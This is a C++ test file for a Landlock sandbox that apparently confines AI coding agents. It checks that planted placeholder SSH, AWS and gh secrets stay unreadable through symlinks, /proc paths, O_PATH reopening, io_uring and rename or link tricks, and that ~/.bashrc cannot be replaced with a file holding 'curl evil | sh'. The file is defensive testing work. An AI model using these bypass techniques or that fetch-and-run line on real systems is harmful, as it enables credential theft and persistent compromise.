// SPDX-License-Identifier: Apache-2.0
// Level 2 on the real kernel: every test forks, puts the child in the
// sandbox (as root or as nobody), performs the operation and reports the
// exact errno. Controls run the same operation unsandboxed, so each test
// fails when the sandbox stops doing its job.
#include "sandbox/sandbox.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <grp.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <sstream>
#include <thread>

#include "doctor/doctor.h"
#include "error.h"
#include "session/run.h"

namespace bulkhead::sandbox {
namespace {

namespace fs = std::filesystem;
using rules::FileProtection;
using rules::KernelPolicy;
using rules::TargetKind;

constexpr uid_t kNobody = 65534;
constexpr const char* kSshSecret = "SSH-SECRET-d41d8cd98f00";
constexpr const char* kAwsSecret = "AWS-SECRET-9e107d9d372b";

std::string err_name(int e) {
    const char* n = strerrorname_np(e);
    return n ? n : "E" + std::to_string(e);
}

// "OK" or the errno's name, for a syscall's return value.
std::string rc(long r) { return r < 0 ? err_name(errno) : "OK"; }

// "OK:<content>" or the errno's name.
std::string read_file(const std::string& path) {
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return err_name(errno);
    std::string out;
    char buf[256];
    ssize_t n;
    while ((n = ::read(fd, buf, sizeof(buf))) > 0)
        out.append(buf, static_cast<size_t>(n));
    ::close(fd);
    return "OK:" + out;
}

std::string write_file(const std::string& path, int flags = O_WRONLY | O_APPEND) {
    int fd = ::open(path.c_str(), flags | O_CLOEXEC, 0644);
    if (fd < 0)
        return err_name(errno);
    ::close(fd);
    return "OK";
}

std::string create_file(const std::string& path) { return write_file(path, O_WRONLY | O_CREAT | O_EXCL); }

// Opens path for reading through io_uring (the operation runs in a kernel
// worker, not in a syscall of the caller): "OK", the errno's name, or
// "unavailable: ..." when io_uring itself is off.
std::string io_uring_open(const std::string& path) {
    io_uring_params p{};
    int ring = static_cast<int>(syscall(SYS_io_uring_setup, 4, &p));
    if (ring < 0)
        return "unavailable: " + err_name(errno);
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe);
    auto* sq = static_cast<char*>(mmap(nullptr, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING));
    auto* cq = static_cast<char*>(mmap(nullptr, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING));
    auto* sqes = static_cast<io_uring_sqe*>(
        mmap(nullptr, p.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES));
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
        return "unavailable: mmap";
    auto* tail = reinterpret_cast<unsigned*>(sq + p.sq_off.tail);
    unsigned mask = *reinterpret_cast<unsigned*>(sq + p.sq_off.ring_mask);
    unsigned idx = *tail & mask;
    io_uring_sqe* e = &sqes[idx];
    std::memset(e, 0, sizeof(*e));
    e->opcode = IORING_OP_OPENAT;
    e->fd = AT_FDCWD;
    e->addr = reinterpret_cast<uint64_t>(path.c_str());
    e->open_flags = O_RDONLY;
    reinterpret_cast<unsigned*>(sq + p.sq_off.array)[idx] = idx;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0)
        return "unavailable: enter " + err_name(errno);
    unsigned head = __atomic_load_n(reinterpret_cast<unsigned*>(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
    unsigned cq_mask = *reinterpret_cast<unsigned*>(cq + p.cq_off.ring_mask);
    int res = reinterpret_cast<io_uring_cqe*>(cq + p.cq_off.cqes)[head & cq_mask].res;
    ::close(ring);
    if (res < 0)
        return err_name(-res);
    ::close(res);
    return "OK";
}

using Results = std::map<std::string, std::string>;

std::string encode(const Results& r) {
    std::string out;
    for (const auto& [k, v] : r)
        out += k + "=" + v + "\n";
    return out;
}

Results decode(const std::string& s) {
    Results r;
    std::istringstream in(s);
    std::string line;
    while (std::getline(in, line)) {
        auto eq = line.find('=');
        if (eq != std::string::npos)
            r[line.substr(0, eq)] = line.substr(eq + 1);
        else
            r["?"] += line;
    }
    return r;
}

struct ChildRun {
    Results results;
    std::string raw;  // everything the child sent back
};

// Forks; the child becomes `uid` (when not 0), prepares and enters the
// sandbox (unless sandboxed is false: the control run), and runs body.
// body may call sync() once: the parent then runs on_sync before the child
// continues.
ChildRun run_child(const KernelPolicy& policy, Options opts, uid_t uid,
                   const std::function<Results(const std::function<void()>& sync)>& body,
                   const std::function<void()>& on_sync = nullptr, bool sandboxed = true) {
    int out[2], ready[2], go[2];
    if (pipe(out) != 0 || pipe(ready) != 0 || pipe(go) != 0)
        return {{{"error", "pipe"}}, ""};
    pid_t pid = fork();
    if (pid == 0) {
        ::close(out[0]);
        ::close(ready[0]);
        ::close(go[1]);
        auto send = [&](const std::string& s) {
            (void)!::write(out[1], s.data(), s.size());
            _exit(0);
        };
        if (uid != 0 && (setgroups(0, nullptr) != 0 || setgid(uid) != 0 || setuid(uid) != 0))
            send("error=cannot become " + std::to_string(uid) + "\n");
        if (sandboxed) {
            std::string err;
            auto sb = Sandbox::prepare(policy, opts, &err);
            if (!sb)
                send("error=prepare: " + err + "\n");
            if (std::string e = sb->enter(); !e.empty())
                send("error=enter: " + e + "\n");
        }
        auto sync = [&] {
            char c = 1;
            (void)!::write(ready[1], &c, 1);
            (void)!::read(go[0], &c, 1);
        };
        send(encode(body(sync)));
    }
    ::close(out[1]);
    ::close(ready[1]);
    ::close(go[0]);
    char c;
    if (::read(ready[0], &c, 1) == 1) {
        if (on_sync)
            on_sync();
        (void)!::write(go[1], &c, 1);
    }
    std::string raw;
    char buf[4096];
    ssize_t n;
    while ((n = ::read(out[0], buf, sizeof(buf))) > 0)
        raw.append(buf, static_cast<size_t>(n));
    ::close(out[0]);
    ::close(ready[0]);
    ::close(go[1]);
    int status = 0;
    waitpid(pid, &status, 0);
    ChildRun r{decode(raw), raw};
    if (!WIFEXITED(status))
        r.results["error"] = "child died with signal " + std::to_string(WTERMSIG(status));
    return r;
}

FileProtection protection(const std::string& rule, uint32_t ops, std::vector<rules::FileTarget> targets) {
    FileProtection p;
    p.rule = rule;
    p.file = "test.yaml";
    p.line = 1;
    p.ops = ops;
    p.targets = std::move(targets);
    return p;
}

constexpr uint32_t kWriteOps = rules::kOpWrite | rules::kOpCreate | rules::kOpRename | rules::kOpLink;

// A home with secrets, startup files and a project, writable by nobody so
// the non-root runs are decided by Landlock, not by file modes.
class SandboxTest : public ::testing::TestWithParam<uid_t> {
protected:
    void SetUp() override {
        abi_ = landlock_abi();
        if (abi_ < 1)
            GTEST_SKIP() << "Landlock is not available on this kernel";
        if (geteuid() != 0)
            GTEST_SKIP() << "the tests fork children as root and as nobody: run them as root";
        static int n = 0;
        root_ = fs::path("/tmp") / ("bulkhead-sbx-" + std::to_string(getpid()) + "-" + std::to_string(n++));
        home_ = root_ / "home";
        for (const char* d : {".ssh", ".aws", ".kube", "proj", "proj2", ".config", "dotfiles/gh"})
            fs::create_directories(home_ / d);
        write(home_ / ".ssh/id_ed25519", kSshSecret);
        write(home_ / ".ssh/known_hosts", "host key");
        write(home_ / ".aws/credentials", kAwsSecret);
        write(home_ / ".bashrc", "# rc");
        write(home_ / "notes.txt", "notes");
        write(home_ / "proj/main.c", "int main;");
        write(home_ / "dotfiles/gh/hosts.yml", kAwsSecret);
        fs::create_directory_symlink(home_ / "dotfiles/gh", home_ / ".config/gh");
        fs::create_directory_symlink(home_ / ".ssh", home_ / "ssh-link");
        for (auto& e : fs::recursive_directory_iterator(root_)) {
            if (!e.is_symlink())
                ::chmod(e.path().c_str(), e.is_directory() ? 0777 : 0666);
        }
        ::chmod(root_.c_str(), 0777);
        ::chmod(home_.c_str(), 0777);
        opts_.homes = {home_.string()};
        opts_.abi = abi_;
    }
    void TearDown() override {
        std::error_code ec;
        if (!root_.empty())
            fs::remove_all(root_, ec);
    }
    static void write(const fs::path& p, const std::string& s) { std::ofstream(p) << s; }
    std::string h(const std::string& rel) const { return (home_ / rel).string(); }

    // The shipped rules' shapes: secrets by pattern and subtree, startup
    // files (one missing), a config through a symlinked directory.
    KernelPolicy policy() const {
        return {{
            protection("Read SSH private key", rules::kOpRead, {{TargetKind::kPattern, "~/.ssh/id_*"}}),
            protection("Read cloud credentials", rules::kOpRead,
                       {{TargetKind::kSubtree, "~/.aws"}, {TargetKind::kPath, "~/.kube/config"}}),
            protection("Read git credentials", rules::kOpRead, {{TargetKind::kPath, "~/.config/gh/hosts.yml"}}),
            protection("Modify shell startup file", kWriteOps,
                       {{TargetKind::kPath, "~/.bashrc"}, {TargetKind::kPath, "~/.zshrc"},
                        {TargetKind::kPath, "~/.config/fish/config.fish"}}),
        }};
    }

    int abi_ = 0;
    fs::path root_, home_;
    Options opts_;
};

TEST_P(SandboxTest, ProtectedSecretsAreEaccesAndNothingLeaks) {
    auto body = [&](const auto&) {
        return Results{
            {"read_ssh_key", read_file(h(".ssh/id_ed25519"))},
            {"read_aws", read_file(h(".aws/credentials"))},
            {"read_gh_through_symlinked_dir", read_file(h(".config/gh/hosts.yml"))},
            {"read_gh_real_path", read_file(h("dotfiles/gh/hosts.yml"))},
            {"read_key_through_symlink_sibling", read_file(h("ssh-link/id_ed25519"))},
            {"read_key_via_proc_self_root", read_file("/proc/self/root" + h(".ssh/id_ed25519"))},
            {"read_key_dotdot", read_file(h("proj/../.ssh/./id_ed25519"))},
            {"open_for_mmap", [&] {
                 int fd = ::open(h(".ssh/id_ed25519").c_str(), O_RDONLY);
                 return fd < 0 ? err_name(errno) : "OK";
             }()},
            {"write_key_allowed_by_read_rule", write_file(h(".ssh/id_ed25519"))},
            {"reopen_o_path_through_proc", [&] {
                 int fd = ::open(h(".ssh/id_ed25519").c_str(), O_PATH);
                 if (fd < 0)
                     return "O_PATH " + err_name(errno);
                 return read_file("/proc/self/fd/" + std::to_string(fd));
             }()},
            {"io_uring_openat", io_uring_open(h(".ssh/id_ed25519"))},
        };
    };
    auto control = run_child(policy(), opts_, GetParam(), body, nullptr, /* sandboxed = */ false);
    ASSERT_EQ(control.results["read_ssh_key"], std::string("OK:") + kSshSecret) << control.raw;
    ASSERT_EQ(control.results["reopen_o_path_through_proc"], std::string("OK:") + kSshSecret) << control.raw;
    auto r = run_child(policy(), opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    for (const char* k : {"read_ssh_key", "read_aws", "read_gh_through_symlinked_dir", "read_gh_real_path",
                          "read_key_through_symlink_sibling", "read_key_via_proc_self_root", "read_key_dotdot",
                          "open_for_mmap", "reopen_o_path_through_proc"})
        EXPECT_EQ(r.results[k], "EACCES") << k;
    // io_uring runs the open in a kernel worker with the caller's
    // credentials, so Landlock still decides.
    if (control.results["io_uring_openat"] == "OK")
        EXPECT_EQ(r.results["io_uring_openat"], "EACCES");
    else
        std::cerr << "io_uring case not run: " << control.results["io_uring_openat"] << "\n";
    EXPECT_EQ(r.results["write_key_allowed_by_read_rule"], "OK");
    EXPECT_EQ(r.raw.find(kSshSecret), std::string::npos);
    EXPECT_EQ(r.raw.find(kAwsSecret), std::string::npos);
}

TEST_P(SandboxTest, UnprotectedSiblingsKeepWorking) {
    auto body = [&](const auto&) {
        return Results{
            {"read_known_hosts", read_file(h(".ssh/known_hosts"))},
            {"read_notes", read_file(h("notes.txt"))},
            {"read_bashrc", read_file(h(".bashrc"))},
            {"read_etc", read_file("/etc/hostname").substr(0, 2)},
            {"create_in_project", create_file(h("proj/new.c"))},
            {"write_in_project", write_file(h("proj/main.c"), O_WRONLY | O_TRUNC)},
            {"mkdir_in_project", rc(::mkdir(h("proj/sub").c_str(), 0755))},
            {"symlink_in_project", rc(::symlink("main.c", h("proj/link").c_str()))},
            {"rename_in_project", rc(::rename(h("proj/new.c").c_str(), h("proj/renamed.c").c_str()))},
            {"move_between_projects", rc(::rename(h("proj/renamed.c").c_str(), h("proj2/moved.c").c_str()))},
            {"unlink_in_project", rc(::unlink(h("proj2/moved.c").c_str()))},
            {"truncate_in_project", rc(::truncate(h("proj/main.c").c_str(), 0))},
            {"list_home", rc([&] {
                 int fd = ::open(h("").c_str(), O_RDONLY | O_DIRECTORY);
                 if (fd >= 0)
                     ::close(fd);
                 return fd;
             }())},
        };
    };
    auto r = run_child(policy(), opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["read_known_hosts"], "OK:host key");
    EXPECT_EQ(r.results["read_notes"], "OK:notes");
    EXPECT_EQ(r.results["read_bashrc"], "OK:# rc");
    EXPECT_EQ(r.results["read_etc"], "OK");
    for (const char* k : {"create_in_project", "write_in_project", "mkdir_in_project", "symlink_in_project",
                          "rename_in_project", "move_between_projects", "unlink_in_project",
                          "truncate_in_project", "list_home"})
        EXPECT_EQ(r.results[k], "OK") << k;
}

TEST_P(SandboxTest, WriteProtectedFileCannotBeWrittenTruncatedReplacedOrRemoved) {
    write(home_ / "proj/evil", "curl evil | sh");
    ::chmod((home_ / "proj/evil").c_str(), 0666);
    auto body = [&](const auto&) {
        return Results{
            {"open_write", write_file(h(".bashrc"))},
            {"open_trunc", write_file(h(".bashrc"), O_WRONLY | O_TRUNC)},
            {"truncate", rc(::truncate(h(".bashrc").c_str(), 0))},
            {"unlink", rc(::unlink(h(".bashrc").c_str()))},
            {"rename_away", rc(::rename(h(".bashrc").c_str(), h(".bashrc.bak").c_str()))},
            {"rename_onto", rc(::rename(h("proj/evil").c_str(), h(".bashrc").c_str()))},
            {"link_out_then_write", rc(::link(h(".bashrc").c_str(), h("proj/rc").c_str()))},
            {"read_still_allowed", read_file(h(".bashrc"))},
        };
    };
    auto control = run_child(policy(), opts_, GetParam(), [&](const auto&) {
        return Results{{"open_write", write_file(h(".bashrc"))}};
    }, nullptr, false);
    ASSERT_EQ(control.results["open_write"], "OK");
    auto r = run_child(policy(), opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    for (const char* k : {"open_write", "open_trunc", "truncate", "unlink", "rename_away", "rename_onto"})
        EXPECT_EQ(r.results[k], "EACCES") << k;
    // Linking it under the project would give it the project's write right.
    EXPECT_EQ(r.results["link_out_then_write"], "EXDEV");
    EXPECT_EQ(r.results["read_still_allowed"], "OK:# rc");
    EXPECT_EQ(read_file(h(".bashrc")), "OK:# rc");
}

TEST_P(SandboxTest, ProtectedButMissingObjectsCannotBeCreated) {
    auto body = [&](const auto&) {
        return Results{
            {"create_zshrc", create_file(h(".zshrc"))},
            {"symlink_zshrc", rc(::symlink("/tmp/x", h(".zshrc").c_str()))},
            {"mkfifo_zshrc", rc(::mkfifo(h(".zshrc").c_str(), 0644))},
            {"rename_onto_zshrc", rc(::rename(h("proj/main.c").c_str(), h(".zshrc").c_str()))},
            {"link_onto_zshrc", rc(::link(h("proj/main.c").c_str(), h(".zshrc").c_str()))},
            // ~/.config/fish does not exist: making it is the first step.
            {"mkdir_fish", rc(::mkdir(h(".config/fish").c_str(), 0755))},
            {"create_in_project", create_file(h("proj/zshrc"))},
        };
    };
    auto r = run_child(policy(), opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    for (const char* k : {"create_zshrc", "symlink_zshrc", "mkfifo_zshrc", "mkdir_fish"})
        EXPECT_EQ(r.results[k], "EACCES") << k;
    EXPECT_TRUE(r.results["rename_onto_zshrc"] == "EACCES" || r.results["rename_onto_zshrc"] == "EXDEV")
        << r.results["rename_onto_zshrc"];
    EXPECT_TRUE(r.results["link_onto_zshrc"] == "EACCES" || r.results["link_onto_zshrc"] == "EXDEV")
        << r.results["link_onto_zshrc"];
    EXPECT_EQ(r.results["create_in_project"], "OK");
    EXPECT_FALSE(fs::exists(fs::symlink_status(home_ / ".zshrc")));
    EXPECT_FALSE(fs::exists(home_ / ".config/fish"));
}

TEST_P(SandboxTest, SecretCreatedAfterTheSessionStartedIsProtected) {
    // ~/.kube exists, ~/.kube/config does not: the user logs in to a
    // cluster from another terminal while the session runs.
    auto r = run_child(
        policy(), opts_, GetParam(),
        [&](const std::function<void()>& sync) {
            sync();
            return Results{{"read_new_kube_config", read_file(h(".kube/config"))}};
        },
        [&] {
            write(home_ / ".kube/config", kAwsSecret);
            ::chmod((home_ / ".kube/config").c_str(), 0666);
        });
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["read_new_kube_config"], "EACCES");
    EXPECT_EQ(r.raw.find(kAwsSecret), std::string::npos);
}

// A '*' in a directory component covers every directory it matches when
// the session starts; siblings stay readable and the plan reports that
// directories made later are not covered.
TEST_P(SandboxTest, StarInADirectoryProtectsEveryMatch) {
    write(home_ / "proj/deploy.key", kSshSecret);
    write(home_ / "proj2/deploy.key", kAwsSecret);
    for (const char* f : {"proj/deploy.key", "proj2/deploy.key"})
        ::chmod((home_ / f).c_str(), 0666);
    KernelPolicy pol{{protection("Read deploy key", rules::kOpRead, {{TargetKind::kPattern, h("*/deploy.key")}})}};
    auto r = run_child(pol, opts_, GetParam(), [&](const auto&) {
        return Results{{"proj", read_file(h("proj/deploy.key"))},
                       {"proj2", read_file(h("proj2/deploy.key"))},
                       {"sibling", read_file(h("proj/main.c"))}};
    });
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["proj"], "EACCES");
    EXPECT_EQ(r.results["proj2"], "EACCES");
    EXPECT_EQ(r.results["sibling"], "OK:int main;");
    EXPECT_EQ(r.raw.find(kSshSecret), std::string::npos);
    EXPECT_EQ(r.raw.find(kAwsSecret), std::string::npos);
    auto plan = plan_landlock(pol, {abi_, opts_.homes, "generic", false, {}}, false);
    ASSERT_TRUE(plan.errors.empty()) << plan.errors[0];
    EXPECT_EQ(gaps_text(plan.gaps), "  rule 'Read deploy key': " + h("*/deploy.key") +
                                        " (directories made after the session starts): its '*' directories are "
                                        "the ones that exist now; the ruleset is fixed at the start\n");
}

TEST_P(SandboxTest, SecretCannotBeRenamedOrLinkedWhereItWouldBeReadable) {
    auto body = [&](const auto&) {
        Results r{
            {"rename_key_to_project", rc(::rename(h(".ssh/id_ed25519").c_str(), h("proj/k").c_str()))},
            {"link_key_to_project", rc(::link(h(".ssh/id_ed25519").c_str(), h("proj/k").c_str()))},
            {"rename_ssh_dir_to_project", rc(::rename(h(".ssh").c_str(), h("proj/ssh").c_str()))},
            {"rename_aws_dir_to_project", rc(::rename(h(".aws").c_str(), h("proj/aws").c_str()))},
            {"exchange_key_with_project_file",
             rc(syscall(SYS_renameat2, AT_FDCWD, h(".ssh/id_ed25519").c_str(), AT_FDCWD, h("proj/main.c").c_str(),
                        RENAME_EXCHANGE))},
        };
        r["read_after"] = read_file(h("proj/k"));
        return r;
    };
    auto r = run_child(policy(), opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    // Moving the key would gain it the project's read right: EXDEV. The
    // other moves also need a right their directory lacks, and Landlock
    // answers EACCES first (home keeps no remove right, .ssh no create).
    for (const char* k : {"rename_key_to_project", "link_key_to_project"})
        EXPECT_EQ(r.results[k], "EXDEV") << k;
    for (const char* k : {"rename_ssh_dir_to_project", "rename_aws_dir_to_project", "exchange_key_with_project_file"})
        EXPECT_EQ(r.results[k], "EACCES") << k;
    EXPECT_EQ(r.results["read_after"], "ENOENT");
    EXPECT_EQ(r.raw.find(kSshSecret), std::string::npos);
    EXPECT_EQ(read_file(h(".ssh/id_ed25519")), std::string("OK:") + kSshSecret);
}

// execve of `path` from a child: "OK" when it ran and exited 0, else the
// errno execve failed with.
std::string exec_file(const std::string& path) {
    int p[2];
    if (pipe2(p, O_CLOEXEC) != 0)
        return "pipe";
    pid_t pid = fork();
    if (pid == 0) {
        char* argv[] = {const_cast<char*>(path.c_str()), nullptr};
        ::execv(path.c_str(), argv);
        int e = errno;
        (void)!::write(p[1], &e, sizeof(e));
        _exit(127);
    }
    ::close(p[1]);
    int e = 0;
    ssize_t n = ::read(p[0], &e, sizeof(e));
    ::close(p[0]);
    int status = 0;
    waitpid(pid, &status, 0);
    if (n == sizeof(e))
        return err_name(e);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? "OK" : "exit " + std::to_string(status);
}

// A program denied by an exec rule (`proc.exepath`), however it is named;
// the rule takes nothing else: it stays readable, other programs run.
TEST_P(SandboxTest, ProtectedProgramCannotBeExecutedByAnyName) {
    fs::create_directories(home_ / "bin");
    for (const char* name : {"bin/tool", "bin/other"}) {
        fs::copy_file("/bin/true", home_ / name);
        ::chmod((home_ / name).c_str(), 0777);
    }
    fs::create_symlink(home_ / "bin/tool", home_ / "tool-link");
    KernelPolicy pol = policy();
    pol.files.push_back(protection("Run tool", rules::kOpExec, {{TargetKind::kPath, "~/bin/tool"}}));
    auto body = [&](const auto&) {
        return Results{
            {"exec_tool", exec_file(h("bin/tool"))},
            {"exec_through_symlink", exec_file(h("tool-link"))},
            {"exec_through_proc_self_root", exec_file("/proc/self/root" + h("bin/tool"))},
            {"exec_dotdot", exec_file(h("proj/../bin/./tool"))},
            {"exec_other", exec_file(h("bin/other"))},
            {"exec_system_program", exec_file("/bin/true")},
            {"read_tool", read_file(h("bin/tool")).substr(0, 3)},
            // Moving it where it would run is refused like a secret's move.
            {"rename_tool_to_project", rc(::rename(h("bin/tool").c_str(), h("proj/tool").c_str()))},
        };
    };
    auto control = run_child(pol, opts_, GetParam(), body, nullptr, /* sandboxed = */ false);
    ASSERT_EQ(control.results["exec_tool"], "OK") << control.raw;
    ASSERT_EQ(control.results["exec_through_symlink"], "OK") << control.raw;
    ::rename(h("proj/tool").c_str(), h("bin/tool").c_str());  // the control moved it
    auto r = run_child(pol, opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    for (const char* k : {"exec_tool", "exec_through_symlink", "exec_through_proc_self_root", "exec_dotdot"})
        EXPECT_EQ(r.results[k], "EACCES") << k;
    EXPECT_EQ(r.results["exec_other"], "OK");
    EXPECT_EQ(r.results["exec_system_program"], "OK");
    EXPECT_EQ(r.results["read_tool"], "OK:");
    EXPECT_EQ(r.results["rename_tool_to_project"], "EXDEV");
    EXPECT_TRUE(fs::exists(home_ / "bin/tool"));
}

TEST_P(SandboxTest, NewEntriesInFrozenDirectoriesFailAtCreate) {
    auto r = run_child(policy(), opts_, GetParam(), [&](const auto&) {
        return Results{
            {"create_in_home", create_file(h("new.txt"))},
            {"mkdir_in_home", rc(::mkdir(h("newdir").c_str(), 0755))},
            {"create_in_ssh", create_file(h(".ssh/known_hosts2"))},
        };
    });
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["create_in_home"], "EACCES");
    EXPECT_EQ(r.results["mkdir_in_home"], "EACCES");
    EXPECT_EQ(r.results["create_in_ssh"], "EACCES");
    auto plan = plan_landlock(policy(), {abi_, opts_.homes, "generic"}, false);
    auto frozen = [&](const fs::path& p) {
        return std::find(plan.frozen.begin(), plan.frozen.end(), p.string()) != plan.frozen.end();
    };
    EXPECT_TRUE(frozen(home_));
    EXPECT_TRUE(frozen(home_ / ".ssh"));
    EXPECT_FALSE(frozen(home_ / "proj"));
}

TEST_P(SandboxTest, NonUtf8NamesAreProtectedAndSiblingsWithThemWork) {
    std::string odd = std::string("id_\xff\xfe");
    write(home_ / ".ssh" / odd, kSshSecret);
    write(home_ / "\xc3\x28notes", "odd sibling");
    ::chmod((home_ / "\xc3\x28notes").c_str(), 0666);
    KernelPolicy pol{{protection("Odd", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/" + odd}})}};
    auto r = run_child(pol, opts_, GetParam(), [&](const auto&) {
        return Results{
            {"read_odd_secret", read_file(h(".ssh/" + odd))},
            {"read_odd_sibling", read_file(h("\xc3\x28notes"))},
        };
    });
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["read_odd_secret"], "EACCES");
    EXPECT_EQ(r.results["read_odd_sibling"], "OK:odd sibling");
}

TEST_P(SandboxTest, AgentScopedRulesReachOnlyThatAgent) {
    auto p = protection("Claude only", rules::kOpRead, {{TargetKind::kPath, "~/notes.txt"}});
    p.scope = rules::KernelScope::kAgent;
    p.agent = "claude";
    KernelPolicy pol{{p}};
    auto body = [&](const auto&) { return Results{{"read", read_file(h("notes.txt"))}}; };
    opts_.agent = "codex";
    EXPECT_EQ(run_child(pol, opts_, GetParam(), body).results["read"], "OK:notes");
    opts_.agent = "claude";
    EXPECT_EQ(run_child(pol, opts_, GetParam(), body).results["read"], "EACCES");
}

TEST_P(SandboxTest, OlderAbiPlansWhatItCanAndReportsTheRest) {
    // Planning for ABI 2 on this kernel: truncate(2) is not a right there,
    // so it stays possible, and the report says so.
    if (abi_ < 3)
        GTEST_SKIP() << "needs a kernel with Landlock ABI 3 to compare against";
    opts_.abi = 2;
    auto r = run_child(policy(), opts_, GetParam(), [&](const auto&) {
        return Results{{"truncate", rc(::truncate(h(".bashrc").c_str(), 1))},
                       {"open_write", write_file(h(".bashrc"))}};
    });
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["truncate"], "OK");
    EXPECT_EQ(r.results["open_write"], "EACCES");
    auto plan = plan_landlock(policy(), {2, opts_.homes, "generic"}, false);
    EXPECT_EQ(plan.handled & ll::kTruncate, 0u);
    EXPECT_NE(plan.handled & ll::kRefer, 0u);
    EXPECT_EQ(plan.scoped, 0u);
    EXPECT_NE(std::find(plan.gaps.begin(), plan.gaps.end(),
                        Gap{"Modify shell startup file", "truncate(2)", "needs Landlock ABI 3 (the running ABI is 2)"}),
              plan.gaps.end());
}

TEST_P(SandboxTest, SessionCannotSignalProcessesOutsideIt) {
    if (abi_ < 6)
        GTEST_SKIP() << "signal scoping needs Landlock ABI 6";
    // A process of the same user, started outside the session.
    pid_t outside = fork();
    if (outside == 0) {
        if (GetParam() != 0 && (setgid(GetParam()) != 0 || setuid(GetParam()) != 0))
            _exit(1);
        pause();
        _exit(0);
    }
    auto body = [&](const auto&) {
        pid_t inner = fork();
        if (inner == 0)
            _exit(0);
        std::string inside = rc(kill(inner, 0));
        waitpid(inner, nullptr, 0);
        return Results{{"signal_outside", rc(kill(outside, 0))}, {"signal_inside", inside}};
    };
    auto r = run_child({}, opts_, GetParam(), body);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["signal_outside"], "EPERM");
    EXPECT_EQ(r.results["signal_inside"], "OK");
    EXPECT_EQ(run_child({}, opts_, GetParam(), body, nullptr, false).results["signal_outside"], "OK");
    kill(outside, SIGKILL);
    waitpid(outside, nullptr, 0);
}

INSTANTIATE_TEST_SUITE_P(AsRootAndNobody, SandboxTest, ::testing::Values(uid_t{0}, kNobody),
                         [](const auto& info) { return info.param == 0 ? std::string("root") : "nobody"; });

// ---- the plan and its report ------------------------------------------------

class PlanTest : public ::testing::Test {
protected:
    void SetUp() override {
        root_ = fs::path("/tmp") / ("bulkhead-plan-sbx-" + std::to_string(getpid()));
        fs::create_directories(root_ / "home/.ssh");
        std::ofstream(root_ / "home/.ssh/id_ed25519") << "k";
        in_.abi = 7;
        in_.homes = {(root_ / "home").string()};
    }
    void TearDown() override { fs::remove_all(root_); }
    fs::path root_;
    LandlockInputs in_;
};

TEST_F(PlanTest, ReportsWhatLandlockCannotExpressPerRule) {
    KernelPolicy pol{{
        protection("Write git hook", kWriteOps | rules::kOpSetattr,
                   {{TargetKind::kPattern, "**/.git/hooks/*"}}),
        protection("Audit only", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/id_ed25519"}}),
        protection("Cloud", rules::kOpRead, {{TargetKind::kSubtree, "~/.ssh"}}),
    }};
    pol.files[1].verdict = rules::KernelVerdict::kAudit;
    auto plan = plan_landlock(pol, in_, false);
    ASSERT_TRUE(plan.errors.empty()) << plan.errors[0];
    std::string ssh = (root_ / "home/.ssh").string();
    EXPECT_EQ(gaps_text(plan.gaps),
              "  rule 'Write git hook': chmod, chown: Landlock has no right for attribute changes\n"
              "  rule 'Write git hook': **/.git/hooks/*: a name in any directory: Landlock grants rights "
              "beneath given directories, not by name\n"
              "  rule 'Audit only': audit: audit rules only report, and at this level the daemon's observer reports "
              "opens only for rules with `taint:`\n"
              "  rule 'Cloud': " + ssh + " (the names in it): listing stays allowed (denying it would hide every "
              "directory above); contents are denied\n");
}

// An ask rule's file is the daemon broker's to hold: Landlock leaves it
// alone then, and denies it (fail closed, reported) when no daemon asks.
TEST_F(PlanTest, AskFilesAreDeniedUnlessTheDaemonHoldsThem) {
    KernelPolicy pol{{protection("Ask key", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/id_ed25519"}})}};
    pol.files[0].verdict = rules::KernelVerdict::kAsk;
    auto alone = plan_landlock(pol, in_, false);
    ASSERT_TRUE(alone.errors.empty()) << alone.errors[0];
    EXPECT_EQ(gaps_text(alone.gaps), "  rule 'Ask key': ask: no daemon holds the operation for a human, so it is denied\n");
    auto deny = plan_landlock(KernelPolicy{{protection("Key", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/id_ed25519"}})}},
                              in_, false);
    ASSERT_EQ(alone.grants.size(), deny.grants.size());
    for (size_t i = 0; i < deny.grants.size(); ++i)
        EXPECT_EQ(alone.grants[i].path + std::to_string(alone.grants[i].access),
